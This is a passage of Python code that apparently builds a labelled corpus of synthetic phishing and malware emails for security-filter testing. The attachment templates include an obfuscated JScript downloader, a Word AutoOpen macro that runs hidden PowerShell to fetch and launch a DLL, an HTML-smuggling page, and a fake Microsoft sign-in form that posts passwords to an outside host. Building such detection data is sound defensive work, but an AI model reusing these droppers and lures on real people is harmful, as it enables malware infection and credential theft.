                subject="Your order GS-7731-0942 has been processed", date="2025-08-14 07:16:02 -0700",
                msgid=gmail_msgid(stem), body=body, auth=auth, dkim=[("gmail.com", "20230601")],
                top=gmail_extra(stem, d), to="undisclosed-recipients:;")
    add(stem, "phish", "phishing", "Callback scam to a police sergeant: Gmail 'Geek Squad' renewal with a PDF invoice for "
        "$488.99 and a phone number to call for a 'refund'", raw)


def a22_paypal_invoice_callback() -> None:
    stem = "b36-phish-paypal-invoice-callback"
    rcpt = "lferreira@brookvaleusd.org"
    inv_id = "INV2-8KQ4-7XNW-2C6R-JH3D"
    url = f"https://www.paypal.com/invoice/p/#{inv_id.replace('-', '')}"
    note = ("Your Norton 360 Deluxe annual plan was renewed and $689.99 charged to your PayPal. If you did not authorize "
            "this transaction, contact Norton billing support immediately at +1 (888) 742-5519 to cancel and get a refund "
            "within 24 hours.")
    html = f"""<html><head><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background:#f5f7fa;font-family:'PayPal Sans Big',Helvetica,Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="padding:28px 40px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="48" alt="PayPal"></td></tr>
<tr><td style="padding:0 40px;font-size:28px;color:#001435">Norton Billing Support sent you an invoice</td></tr>
<tr><td style="padding:16px 40px;font-size:32px;color:#001435">$689.99 USD</td></tr>
<tr><td style="padding:0 40px 18px 40px;font-size:14px;color:#545d68">Due on receipt</td></tr>
<tr><td style="padding:0 40px"><a href="{url}" style="background:#003087;color:#fff;border-radius:25px;padding:12px 32px;font-size:16px;text-decoration:none;display:inline-block">View and Pay Invoice</a></td></tr>
<tr><td style="padding:24px 40px;font-size:14px;color:#001435"><b>Seller note to customer</b><br>{note}</td></tr>
<tr><td style="padding:8px 40px;font-size:14px;color:#001435">Invoice number<br>0042</td></tr>
<tr><td style="padding:24px 40px;font-size:12px;color:#545d68">Don't recognize this invoice? Report this invoice.<br>
Help &amp; Contact | Security | Apps<br>PayPal is committed to preventing fraudulent emails. Emails from PayPal will
always contain your full name.<br>Copyright &copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal is located at
2211 N. First St., San Jose, CA 95131.<br>PayPal RT000238:en_US(en-US):1.2.0:{hx(stem, 12)}</td></tr>
</table></td></tr></table></body></html>
"""
    plain = (f"Norton Billing Support sent you an invoice\n\n$689.99 USD\nDue on receipt\n\nView and Pay Invoice\n{url}\n\n"
             f"Seller note to customer\n{note}\n\nInvoice number\n0042\n\nCopyright 1999-2025 PayPal, Inc.\n")
    auth = Auth("173.0.84.226", "mx0.slc.paypal.com", "service@paypal.com", "pass", [("paypal.com", "pp-dkim1", "pass")],
                "pass", "reject", "paypal.com")
    raw = build(stem=stem, profile="gws", rcpt=rcpt, frm="\"service@paypal.com\" <service@paypal.com>",
                subject="Invoice from Norton Billing Support (0042)", date="2025-02-04 10:58:23 -0800",
                msgid=f"<{hx(stem + 'pp', 12)}.{hx(stem + 'pp2', 12)}@mx0.slc.paypal.com>",
                body=alt(plain, html, f"--=_{hx(stem + 'b', 8)}-{hx(stem + 'c', 4)}"), auth=auth,
                dkim=[("paypal.com", "pp-dkim1")],
                extra=["X-MaxCode-Template: RT000238", "X-PP-REQUESTED-TIME: " + num(stem + "rt", 13), "X-PP-Priority: 0-none-true",
                       "X-Email-Type-Id: RT000238", "X-XPT-XSL-Name: nodeSquirrelMail"])
    add(stem, "phish", "phishing", "Callback scam through a genuine PayPal invoice (paypal.com passes everything): the "
        "'seller note' claims a $689.99 Norton renewal and gives a phone number for a refund", raw)


def a23_qr_open_enrollment() -> None:
    stem = "b36-phish-qr-benefits-enrollment-pdf"
    rcpt = "brenda.soliz@co.kessler.tx.us"
    qr_url = "https://kesslercounty-benefits.azurewebsites.net/oe2025/?u=YnJlbmRhLnNvbGl6QGNvLmtlc3NsZXIudHgudXM="
    pdf = qr_pdf(qr_url, [
        "KESSLER COUNTY - HUMAN RESOURCES",
        "2025 Plan Year Open Enrollment",
        "",
        "Employee: Brenda Soliz",
        "",
        "All benefits-eligible employees must review their medical, dental and",
        "supplemental elections and sign the Benefits Acknowledgement Form.",
        "Employees who do not complete this step by November 22, 2024 will be",
        "enrolled in the default Employee-Only plan for 2025.",
        "",
        "Scan the QR code below with your phone camera to sign in securely",
        "with your county email account and complete your acknowledgement.",
    ], "OE2025 Acknowledgement", "Adobe PDF Library 23.1.175", "20241114082231-06'00'",
        ["Secure access is provided by the county's benefits administrator.",
         "Questions: Human Resources, ext. 4410"])
    plain = ("Hello,\n\nPlease find attached the 2025 Open Enrollment Benefits Acknowledgement for Kessler County "
             "employees. Completion is required by 11/22/2024.\n\nThank you,\nBenefits Administration Team\n"
             "TriCoast Benefits Group\n")
    ip, helo, rdns, hops = m365_out(stem, "NAM02-SN1", "namprd02.prod.outlook.com", "SN6PR02MB")
    html = outlook_html(paras(*[p.replace("\n", "<br>") for p in plain.strip().split("\n\n")]))
    body = mixed(outlook_boundary(stem, "004"), alt(plain, html, outlook_boundary(stem)),
                 attachment("application/pdf", "KesslerCounty_OE2025_Acknowledgement.pdf", pdf))
    auth = Auth(ip, helo, "enrollment@tricoastbenefits.com", "pass", [("tricoastbenefits.com", "selector1", "pass")],
                "pass", "none", "tricoastbenefits.com", rdns)
    raw = build(stem=stem, profile="pp", rcpt=rcpt, frm="Benefits Administration <enrollment@tricoastbenefits.com>",
                subject="ACTION REQUIRED: 2025 Open Enrollment Benefits Acknowledgement - Kessler County",
                date="2024-11-14 08:24:10 -0600", msgid=exchange_msgid(stem, "vendor_us").replace("PH7PR02MB", "SN6PR02MB"),
                body=body, auth=auth, sender_hops=hops, dkim=[("tricoastbenefits.com", "selector1")],
                extra=outlook_extra(stem, "ACTION REQUIRED: 2025 Open Enrollment Benefits Acknowledgement - Kessler County", True))
    add(stem, "phish", "phishing", "Quishing: compromised benefits-broker mailbox sends county HR staff an open-enrollment "
        "PDF whose only call to action is a QR code to a credential page on azurewebsites.net", raw)


def a24_qr_mfa_inline() -> None:
    stem = "b36-phish-qr-mfa-reregistration-inline"
    rcpt = "tgreene@harlanspringsoh.gov"
    qr_url = "https://harlanspringsoh-gov.mfa-reenroll.com/auth/?e=dGdyZWVuZUBoYXJsYW5zcHJpbmdzb2guZ292"
    img = files.qr_png(qr_url)
    html = f"""<html><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">
<div style="max-width:560px;border:1px solid #e1e1e1;padding:22px">
<p style="font-size:18px;font-weight:600">Microsoft Authenticator re-registration required</p>
<p>Hello tgreene,</p>
<p>The City of Harlan Springs IT Department is migrating all staff accounts to the new Microsoft Entra multi-factor
authentication policy. Your current authenticator registration for <b>tgreene@harlanspringsoh.gov</b> expires in
<b>48 hours</b>.</p>
<p>Scan the code below with your mobile phone camera to re-register. Do not use a work computer.</p>
<p style="text-align:center"><img src="cid:qr_{hx(stem, 8)}" width="180" height="180" alt="QR code"></p>
<p>Failure to re-register will result in loss of access to email, Teams and OneDrive.</p>
<p style="font-size:12px;color:#777">IT Service Desk | City of Harlan Springs</p></div></body></html>
"""
    plain = ("Microsoft Authenticator re-registration required\n\nYour authenticator registration for "
             "tgreene@harlanspringsoh.gov expires in 48 hours. Scan the QR code in this message with your mobile phone "
             "camera to re-register.\n\nIT Service Desk | City of Harlan Springs\n")
    body = Multi("related", f"--_rel_{hx(stem, 20)}", [alt(plain, html, f"--_alt_{hx(stem + 'a', 20)}"),
                                                       attachment("image/png", "qr.png", img, inline=True,
                                                                  cid=f"qr_{hx(stem, 8)}")], ' type="multipart/alternative";')
    auth = Auth("162.214.78.143", "box5143.bluehost.com", "it-servicedesk@cpservices-group.com", "pass",
                [("cpservices-group.com", "default", "pass")], "none", "none", "cpservices-group.com")
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt, frm="IT Service Desk <it-servicedesk@cpservices-group.com>",
                subject="Action required: Authenticator re-registration for tgreene@harlanspringsoh.gov",
                date="2025-09-30 08:02:57 -0500", msgid=f"<{hx(stem, 32)}@cpservices-group.com>", body=body, auth=auth,
                dkim=[("cpservices-group.com", "default")])
    add(stem, "phish", "phishing", "Quishing: 'IT Service Desk' from an unrelated domain tells a city HR employee to "
        "re-register MFA by scanning an inline QR code with a phone; the QR leads to a look-alike login host", raw)


JS_DROPPER = ("var a=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x52\\x75\\x6e'];\n"
              "var s=new ActiveXObject(a[0]);\n"
              "var u='{url}';\n"
              "var c='cmd /c curl -s -o %TEMP%\\\\{name} '+u+' && rundll32 %TEMP%\\\\{name},{entry}';\n"
              "s[a[1]](c,0,false);\n"
              "// {pad}\n")


def js_dropper(url: str, name: str, entry: str, seed: str) -> bytes:
    pad = " ".join(aln(seed + str(i), 60) for i in range(8))
    return JS_DROPPER.format(url=url, name=name, entry=entry, pad=pad).encode()


def a25_foia_zip() -> None:
    stem = "b36-phish-public-records-request-js-zip"
    rcpt = "records@harlanspringsoh.gov"
    ip, helo = gmail_out(stem)
    js = js_dropper("https://files-cdn.servehttp.com/k/pr.dat", "prq.dll", "DllRegisterServer", stem)
    z = files.zip_archive([("Records_Request_List_HSPD.js", js)])
    plain = """To the Records Custodian, City of Harlan Springs:

Pursuant to the Ohio Public Records Act, R.C. 149.43, I am requesting copies of the following records held by the
Harlan Springs Police Department:

1. Incident reports for calls for service on the 400-600 blocks of Elm Street between January 1 and March 31, 2025.
2. Body-worn camera activation logs for the same period.
3. Any use-of-force reports filed for those incidents.

Because the list of incident numbers is long, I have put the complete itemized list in the attached file (zipped
because of size). Electronic copies by email are fine. I am willing to pay reasonable costs of duplication.

Please acknowledge receipt and let me know the estimated date of production.

Regards,
Nathan Curtis
"""
    html = gmail_html("<div>" + "</div><div><br></div><div>".join(p.replace("\n", "<br>") for p in plain.strip().split("\n\n")) + "</div>")
    d = when("2025-04-15 21:48:33 -0400")
    body = mixed(f"000000000000{hx(stem + 'm', 16)}", alt(plain, html, f"000000000000{hx(stem + 'a', 16)}"),
                 Leaf("application/zip", z, "base64", '; name="Records_Request_List_HSPD.zip"',
                      'attachment; filename="Records_Request_List_HSPD.zip"',
                      [f"Content-ID: <f_{aln(stem, 9).lower()}0>", f"X-Attachment-Id: f_{aln(stem, 9).lower()}0"]))
    auth = Auth(ip, helo, "nathan.curtis.records@gmail.com", "pass", [("gmail.com", "20230601", "pass")], "pass",
                "none", "gmail.com")
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt, frm="Nathan Curtis <nathan.curtis.records@gmail.com>",
                subject="Public Records Request - HSPD incident reports and BWC logs (Jan-Mar 2025)",
                date="2025-04-15 21:48:33 -0400", msgid=gmail_msgid(stem), body=body, auth=auth,
                dkim=[("gmail.com", "20230601")], top=gmail_extra(stem, d))
    add(stem, "phish", "malware", "Public-records (R.C. 149.43) request pretext to the city records mailbox; the "
        "'itemized list' is a zip holding a JScript downloader", raw)


def a26_resume_encrypted_zip() -> None:
    stem = "b36-phish-resume-password-zip-exe"
    rcpt = "classifiedjobs@brookvaleusd.org"
    ip, helo, rdns, hops = m365_out(stem, "NAM12-BN8", "NAMP220.PROD.OUTLOOK.COM", "SN7P220MB")
    ip = f"40.92.{int(num(stem + 'q', 2)) % 60 + 20}.{int(num(stem + 'r', 3)) % 240 + 10}"
    z = zip_encrypted([("Jordan_Mills_Resume.pdf.exe", files.pe_stub())], "2025", stem)
    plain = """Hello,

I am applying for the Custodian II position (Job #BV-2025-118) posted on EdJoin. I have six years of custodial
and light maintenance experience with Fresno County facilities, including floor care, HVAC filter changes and
after-hours event setups. I hold a current CPR certification and a clean DMV record.

My resume and references are attached. For privacy the file is password protected - the password is 2025.

Thank you for your consideration. I am available for an interview any day after 2 pm.

Jordan Mills
(559) 317-8842
"""
    html = outlook_html(paras(*[p.replace("\n", " ") for p in plain.strip().split("\n\n")]), "Calibri")
    body = mixed(outlook_boundary(stem, "004"), alt(plain, html, outlook_boundary(stem)),
                 attachment("application/x-zip-compressed", "Jordan_Mills_Resume.zip", z))
    auth = Auth(ip, helo, "jordanmills.work@outlook.com", "pass", [("outlook.com", "selector1", "pass")], "pass",
                "none", "outlook.com", rdns)
    raw = build(stem=stem, profile="gws", rcpt=rcpt, frm="Jordan Mills <jordanmills.work@outlook.com>",
                subject="Application - Custodian II (Job #BV-2025-118)", date="2025-05-06 10:14:09 -0700",
                msgid=exchange_msgid(stem, "outlook"), body=body, auth=auth, sender_hops=hops,
                dkim=[("outlook.com", "selector1")],
                extra=outlook_extra(stem, "Application - Custodian II (Job #BV-2025-118)", True))
    add(stem, "phish", "malware", "Job application to the district's recruiting mailbox with a password-protected zip "
        "('password is 2025') holding a double-extension executable posing as a resume PDF", raw)


def a27_invoice_js_zip() -> None:
    stem = "b36-phish-past-due-invoice-js-zip"
    rcpt = "ap@marshcreekwater.org"
    js = js_dropper("https://update.keystone-cdn.net/inv/20419.bin", "inv20419.dll", "Start", stem)
    z = files.zip_archive([("INV_20419_MarshCreek.js", js)])
    plain = ("Good morning,\n\nPlease see attached past due invoice 20419 for sodium hypochlorite deliveries (Feb). "
             "Kindly remit at your earliest convenience or let us know if there is an issue.\n\nThank you,\n\n"
             "Accounts Receivable\nKeystone Chemical Supply Co.\n(717) 290-3316\n")
    body = mixed(f"----=_NextPart_{hx(stem, 3).upper()}_{hx(stem + 'a', 4).upper()}_{hx(stem + 'b', 8).upper()}",
                 text(plain, "plain", "7bit", "us-ascii"),
                 attachment("application/zip", "INV_20419_MarshCreek.zip", z))
    auth = Auth("184.168.200.61", "p3plzcpnl505817.prod.phx3.secureserver.net", "billing@keystonechemsupply.com", "pass",
                [("keystonechemsupply.com", "default", "pass")], "none", "none", "keystonechemsupply.com")
    raw = build(stem=stem, profile="eop:marsh", rcpt=rcpt, frm="Keystone Chemical - A/R <billing@keystonechemsupply.com>",
                subject="Invoice 20419 - Past Due Notice", date="2025-03-18 08:09:51 -0400",
                msgid=f"<{hx(stem, 32)}@keystonechemsupply.com>", body=body, auth=auth,
                sender_hops=["Received: from [102.165.48.77] (port=61214 helo=DESKTOP-8K2LQ1V)\n\tby "
                             "p3plzcpnl505817.prod.phx3.secureserver.net with esmtpsa (TLS1.2) tls "
                             "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n\t(Exim 4.96.2)\n\t(envelope-from "
                             "<billing@keystonechemsupply.com>)\n\tid 1tuQ8F-00C3Rk-0p"],
                dkim=[("keystonechemsupply.com", "default")])
    add(stem, "phish", "malware", "Past-due invoice from a compromised chemical supplier's cPanel mailbox to the water "
        "authority's AP inbox; the attached zip holds a JScript downloader named like the invoice", raw)


def a28_html_smuggling() -> None:
    stem = "b36-phish-remittance-html-smuggling"
    rcpt = "accountspayable@co.kessler.tx.us"
    inner = js_dropper("https://cdn.lonestarfleet-docs.com/r/0917.dat", "rem0917.dll", "DllInstall", stem)
    z = files.zip_archive([("Remittance_Advice_0917.js", inner)])
    blob = base64.b64encode(z).decode()
    chunks = "'+\n'".join(blob[i:i + 120] for i in range(0, len(blob), 120))
    page = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Remittance Advice</title>
<style>body{{font-family:Segoe UI,Arial;background:#f3f3f3}}.c{{margin:80px auto;width:380px;background:#fff;padding:30px;text-align:center}}</style>
</head><body><div class="c"><img src="https://upload.wikimedia.org/wikipedia/commons/8/87/PDF_file_icon.svg" width="48"><p>Preparing your document...</p>
<p style="font-size:12px;color:#888">If the download does not start, click <a href="#" onclick="go();return false">here</a>.</p></div>
<script>
var d='{chunks}';
function b(s){{var r=atob(s),a=new Uint8Array(r.length);for(var i=0;i<r.length;i++)a[i]=r.charCodeAt(i);return a}}
function go(){{var f=new Blob([b(d)],{{type:'application/octet-stream'}});var u=URL.createObjectURL(f);
var l=document.createElement('a');l.href=u;l.download='Remittance_Advice_0917.zip';document.body.appendChild(l);l.click();}}
setTimeout(go,900);
</script></body></html>
"""
    plain = ("Hello,\n\nPlease find attached the remittance advice for ACH payment 2025-0917 applied to your open "
             "invoices. Open the attachment in your browser to view.\n\nLone Star Fleet Parts\nAccounts Receivable\n")
    body = mixed(f"--{hx(stem, 28)}", text(plain, "plain", "7bit", "us-ascii"),
                 attachment("text/html", "Remittance_Advice_0917.html", page.encode()))
    auth = Auth("103.97.176.44", "mail.lonestarfleetparts.com", "ar@lonestarfleetparts.com", "pass",
                [("lonestarfleetparts.com", "mail", "pass")], "none", "none", "lonestarfleetparts.com")
    raw = build(stem=stem, profile="pp", rcpt=rcpt, frm="Lone Star Fleet Parts AR <ar@lonestarfleetparts.com>",
                subject="Remittance Advice - ACH Payment 2025-0917", date="2025-09-17 13:33:08 -0500",
                msgid=f"<{hx(stem, 20)}@lonestarfleetparts.com>", body=body, auth=auth,
                dkim=[("lonestarfleetparts.com", "mail")])
    add(stem, "phish", "malware", "HTML smuggling: 'remittance advice' .html attachment carries a base64 zip that the "
        "browser saves on open; the zip holds a JScript downloader", raw)


def a29_bacs_htm_form() -> None:
    stem = "b36-phish-bacs-remittance-htm-login"
    rcpt = "owen.griffiths@ashmere.gov.uk"
    page = f"""<html><head><meta charset="utf-8"><title>Microsoft 365 - Secure Document</title></head>
<body style="margin:0;background:#eee;font-family:Segoe UI,Arial,sans-serif">
<div style="width:440px;margin:70px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)">
<img src="https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg" width="108">
<h2 style="font-weight:600;font-size:22px">Verify your identity to view BACS_Remittance_88301724.pdf</h2>
<form method="POST" action="https://northgate-docs.onrender.com/auth/submit.php">
<input type="email" name="login" value="owen.griffiths@ashmere.gov.uk" style="width:100%;padding:6px;border:none;border-bottom:1px solid #666"><br><br>
<input type="password" name="passwd" placeholder="Password" style="width:100%;padding:6px;border:none;border-bottom:1px solid #666"><br><br>
<input type="hidden" name="src" value="ashmere-bacs">
<button type="submit" style="background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right">Sign in</button>
</form><br><br><p style="font-size:13px;color:#666">The sender has protected this document. Sign in with your work account.</p>
</div></body></html>
"""
    plain = ("Good morning,\n\nPlease find attached BACS remittance advice for payment reference 88301724 (invoices "
             "NF-3310, NF-3322).\n\nKind regards,\n\nJo Whitlock\nAccounts Assistant\nNorthgate Facilities Ltd\n"
             "Unit 4, Brindley Park, Ashmere AS7 2QT\nTel: 01632 960 418\n")
    ip, helo, rdns, hops = m365_out(stem, "EUR03-VI1", "eurprd03.prod.outlook.com", "VI1PR03MB")
    html = outlook_html(paras(*[p.replace("\n", "<br>") for p in plain.strip().split("\n\n")]), "Calibri")
    body = mixed(outlook_boundary(stem, "004"), alt(plain, html, outlook_boundary(stem)),
                 attachment("text/html", "BACS_Remittance_88301724.htm", page.encode()))
    auth = Auth(ip, helo, "accounts@northgatefacilities.co.uk", "pass",
                [("northgatefacilities.co.uk", "selector1", "pass")], "pass", "none", "northgatefacilities.co.uk", rdns)
    raw = build(stem=stem, profile="mc", rcpt=rcpt, frm="Northgate Facilities Accounts <accounts@northgatefacilities.co.uk>",
                subject="BACS Remittance Advice - Payment Ref 88301724", date="2025-01-29 09:17:45 +0000",
                msgid=exchange_msgid(stem, "vendor_uk").replace("LO2P265MB", "VI1PR03MB").replace("GBRP265.PROD.OUTLOOK.COM", "eurprd03.prod.outlook.com"),
                body=body, auth=auth, sender_hops=hops, dkim=[("northgatefacilities.co.uk", "selector1")],
                extra=outlook_extra(stem, "BACS Remittance Advice - Payment Ref 88301724", True, "en-GB"))
    add(stem, "phish", "phishing", "Compromised facilities-supplier mailbox sends a council finance officer a 'BACS "
        "remittance' .htm attachment that is a Microsoft sign-in form posting the password to onrender.com", raw)


def a30_docm_po() -> None:
    stem = "b36-phish-revised-po-docm-macro"
    rcpt = "shaddad@tvrta.org"
    ip, helo, rdns, hops = m365_out(stem, "NAM10-DM6", "namprd10.prod.outlook.com", "DM4PR10MB")
    macro = ('Attribute VB_Name = "ThisDocument"\n'
             "Sub AutoOpen()\n"
             "    Dim p As String\n"
             '    p = "powershell -nop -w hidden -c ""$u=\'https://pacificbusparts-files.com/q/45-2201.png\';" & _\n'
             '        "$o=$env:APPDATA+\'\\\\msupd.dll\';(New-Object Net.WebClient).DownloadFile($u,$o);" & _\n'
             '        "rundll32 $o,Init"""\n'
             "    CreateObject(\"WScript.Shell\").Run p, 0, False\n"
             "End Sub\n")
    doc = files.docx(["PACIFIC BUS PARTS, INC. - REVISED QUOTATION", "PO 45-2201 - Tri-Valley Regional Transit Authority",
                      "This document was created in an earlier version of Microsoft Word.",
                      "To view the revised pricing and lead times, click Enable Editing and then Enable Content."],
                     "Revised Quote 45-2201", "Kim Alvarez", macro)
    prev = exchange_msgid(stem + "prev", "vendor_us")
    plain = """Hi Samir,

Per our call, attached is the revised quote for PO 45-2201 with the updated lead times on the Gillig door actuators
and the brake chambers. Two line items changed because of the tariff surcharge from our supplier.

Please review and confirm so we can release the order this week.

Thanks,
Kim Alvarez
Inside Sales | Pacific Bus Parts, Inc.
(916) 372-4480

From: Samir Haddad <shaddad@tvrta.org>
Sent: Tuesday, September 9, 2025 2:31 PM
To: Kim Alvarez <kalvarez@pacificbusparts.com>
Subject: PO 45-2201 - revised quote and lead times

Kim - can you send an updated quote for 45-2201? Maintenance says the actuators are now 10 weeks out.
Samir
"""
    html = outlook_html(paras(*[p.replace("\n", "<br>") for p in plain.strip().split("\n\n")]))
    body = mixed(outlook_boundary(stem, "004"), alt(plain, html, outlook_boundary(stem)),
                 attachment("application/vnd.ms-word.document.macroEnabled.12", "PO_45-2201_Revised_Quote.docm", doc))
    auth = Auth(ip, helo, "kalvarez@pacificbusparts.com", "pass", [("pacificbusparts.com", "selector1", "pass")],
                "pass", "none", "pacificbusparts.com", rdns)
    raw = build(stem=stem, profile="gws", rcpt=rcpt, frm="Kim Alvarez <kalvarez@pacificbusparts.com>",
                subject="RE: PO 45-2201 - revised quote and lead times", date="2025-09-10 09:02:36 -0700",
                msgid=exchange_msgid(stem, "vendor_us").replace("PH7PR02MB", "DM4PR10MB").replace("namprd02", "namprd10"),
                body=body, auth=auth, sender_hops=hops, dkim=[("pacificbusparts.com", "selector1")],
                extra=outlook_extra(stem, "PO 45-2201 - revised quote and lead times", True, irt=prev, refs=prev))
    add(stem, "phish", "malware", "Thread hijack from a compromised bus-parts supplier: 'revised quote' is a macro-enabled "
        "Word document whose AutoOpen macro downloads and runs a DLL", raw)


def a31_bid_iso() -> None:
    stem = "b36-phish-bid-package-iso-lnk"
    rcpt = "purchasing@co.kessler.tx.us"
    lnk = files.lnk_shortcut("C:\\Windows\\System32\\rundll32.exe", "bidpkg.dat,DllRegisterServer")
    iso = files.iso_image([("RFQ_25-118_Bid_Package.pdf.lnk", lnk), ("bidpkg.dat", files.pe_stub())], "RFQ25118")
    plain = """Good afternoon,

Brazos Road Materials is submitting our pricing for RFQ 25-118 (Road Materials - Type D Hot Mix and Base). The bid
package with our signed pricing sheet, conflict of interest questionnaire (CIQ) and Form 1295 certificate is attached.

Please confirm receipt before the 2:00 PM deadline.

Regards,
Estimating Department
Brazos Road Materials, LLC
"""
    html = "<div style=\"font-family:Verdana;font-size:10pt\">" + "<br><br>".join(p.replace("\n", "<br>") for p in plain.strip().split("\n\n")) + "</div>"
    body = mixed(f"----=_Part_{num(stem, 6)}_{num(stem + 'a', 9)}.{num(stem + 'b', 13)}",
                 alt(plain, html, f"----=_Part_{num(stem + 'c', 6)}_{num(stem + 'd', 9)}.{num(stem + 'e', 13)}"),
                 attachment("application/x-iso9660-image", "RFQ_25-118_Bid_Package.iso", iso))
    auth = Auth("136.143.188.51", "sender4-op-o51.zoho.com", "estimating@brazosroadmaterials.com", "pass",
                [("brazosroadmaterials.com", "zmail", "pass")], "none", "none", "brazosroadmaterials.com")
    raw = build(stem=stem, profile="pp", rcpt=rcpt, frm="Brazos Road Materials - Estimating <estimating@brazosroadmaterials.com>",
                subject="RFQ 25-118 Road Materials - Bid Submission", date="2025-06-24 11:02:19 -0500",
                msgid=f"<{num(stem, 13)}.{num(stem + 'z', 19)}.{num(stem + 'y', 13)}@mail.zoho.com>", body=body,
                auth=auth, dkim=[("brazosroadmaterials.com", "zmail")],
                sender_hops=["Received: by mx.zohomail.com with SMTPS id " + num(stem + "zh", 13) + f"{num(stem + 'zi', 6)}.{num(stem + 'zj', 6)}"],
                extra=["X-Mailer: Zoho Mail", "Importance: Medium", "User-Agent: Zoho Mail"])
    add(stem, "phish", "malware", "Fake bid submission to county purchasing from a new Zoho-hosted domain: an ISO image "
        "holding a .pdf.lnk shortcut that runs a bundled DLL through rundll32", raw)


def a32_pdf_msi() -> None:
    stem = "b36-phish-planning-objection-pdf-msi"
    rcpt = "priya.shah@ashmere.gov.uk"
    pdf = text_pdf([
        "Objection to Planning Application 25/00418/FUL",
        "Land rear of Mill Lane, Ashmere",
        "",
        "This document is protected and requires the Adobe Acrobat Secure Viewer plug-in.",
        "The content could not be displayed in your current version of the reader.",
        "",
        "Download and install the plug-in, then reopen this file.",
    ], "Objection 25-00418-FUL", "Microsoft Word 2019", "20250521193012+01'00'", "Martin Coles",
        ("https://acrobat-reader-plugin.com/download/AcrobatSecureViewer_x64.msi", (150, 560, 460, 600),
         "Download Secure Viewer plug-in"), 12)
    plain = """Dear Ms Shah,

Please find attached my letter of objection to planning application 25/00418/FUL (erection of 14 dwellings on land
rear of Mill Lane). My objection concerns the access onto Mill Lane, surface water flooding, and the loss of the
hedgerow along the eastern boundary.

I would be grateful if you could confirm it has been received and will be considered by the planning committee.

Yours sincerely,

Martin Coles
17 Mill Lane
Ashmere
"""
    body = mixed(f"----=_Part_{num(stem, 7)}_{num(stem + 'x', 10)}.{num(stem + 'y', 13)}",
                 text(plain, "plain", "quoted-printable", "utf-8"),
                 attachment("application/pdf", "Objection 25-00418-FUL M Coles.pdf", pdf))
    auth = Auth("65.20.0.38", "sa-prd-rgout-004.btmx-prd.synchronoss.net", "m.coles1962@btinternet.com", "pass",
                [("btinternet.com", "btmx201904", "pass")], "pass", "none", "btinternet.com")
    raw = build(stem=stem, profile="mc", rcpt=rcpt, frm="Martin Coles <m.coles1962@btinternet.com>",
                subject="Objection - 25/00418/FUL Land rear of Mill Lane", date="2025-05-21 19:31:44 +0100",
                msgid=f"<{hx(stem, 8)}.{hx(stem + 'a', 8)}.{num(stem, 7)}@btinternet.com>", body=body, auth=auth,
                dkim=[("btinternet.com", "btmx201904")],
                sender_hops=["Received: from sa-prd-fep-044.btinternet.com (10.2.68.44) by\n\tsa-prd-rgout-004.btmx-prd.synchronoss.net"
                             f" (5.8.814) (authenticated as m.coles1962@btinternet.com)\n\tid 6{hx(stem + 'bt', 15).upper()}"],
                extra=["X-Mailer: Open-Xchange Mailer v7.10.6-Rev66", "X-Originating-IP: 86.171.44.209"])
    add(stem, "phish", "malware", "Planning-objection letter from a (likely compromised) BT mailbox to a council planning "
        "officer; the PDF shows no content, only a link to download an .msi 'Acrobat Secure Viewer plug-in'", raw)


def a33_teams_ics() -> None:
    stem = "b36-phish-budget-workshop-teams-invite"
    rcpt = "dkowalczyk@harlanspringsoh.gov"
    join = ("https://teams-live-join.com/l/meetup-join/19%3ameeting_ZTk4NjNhYjktZmQ2Ny00YzE5LWE2NTktNDBmNjcxM2Q0N2E4"
            "%40thread.v2/0?context=%7b%22Tid%22%3a%22oml%22%7d")
    desc = ("You have been registered for the OML Finance Directors roundtable.\n\n"
            "________________________________________________________________________________\n"
            "Microsoft Teams meeting\nJoin on your computer, mobile app or room device\n"
            f"Click here to join the meeting <{join}>\n\nMeeting ID: 241 883 907 112\nPasscode: Lh7Qa9\n\n"
            "Sign in with your organization account to be admitted from the lobby.\n"
            "________________________________________________________________________________\n")
    cal = ics(f"040000008200E00074C5B7101A82E008000000{hx(stem, 32).upper()}",
              "OML Events:mailto:events@ohio-municipal-league.org",
              "Denise Kowalczyk:mailto:dkowalczyk@harlanspringsoh.gov",
              "FY2026 Budget Forecasting Workshop for Finance Directors", "20250918T100000", "20250918T113000",
              "Microsoft Teams Meeting", desc, "20250910T141500Z")
    html = outlook_html(
        '<p class="MsoNormal">You have been registered for the OML Finance Directors roundtable.</p>'
        '<div style="margin-top:24px;margin-bottom:20px"><span style="font-size:24px;font-weight:700">Microsoft Teams</span> '
        '<a href="https://aka.ms/JoinTeamsMeeting">Need help?</a></div>'
        f'<div><a href="{join}" style="font-size:20px;font-weight:700;color:#5B5FC7">Join the meeting now</a></div>'
        '<div style="margin-top:12px">Meeting ID: 241 883 907 112<br>Passcode: Lh7Qa9</div>'
        '<div style="margin-top:12px;font-size:12px;color:#616161">Sign in with your organization account to be admitted '
        "from the lobby.</div>")
    body = Multi("alternative", outlook_boundary(stem), [
        text(strip_html(html), "plain"), text(html, "html"),
        Leaf("text/calendar", cal, "base64", '; charset="utf-8"; method=REQUEST')])
    ip, helo, rdns, hops = m365_out(stem, "NAM11-CO1", "namprd11.prod.outlook.com", "MW4PR11MB")
    auth = Auth(ip, helo, "events@ohio-municipal-league.org", "pass",
                [("ohiomunicipalleague.onmicrosoft.com", "selector1-ohiomunicipalleague-onmicrosoft-com", "pass")],
                "bestguesspass", "none", "ohio-municipal-league.org", rdns)
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt, frm="OML Events <events@ohio-municipal-league.org>",
                subject="FY2026 Budget Forecasting Workshop for Finance Directors",
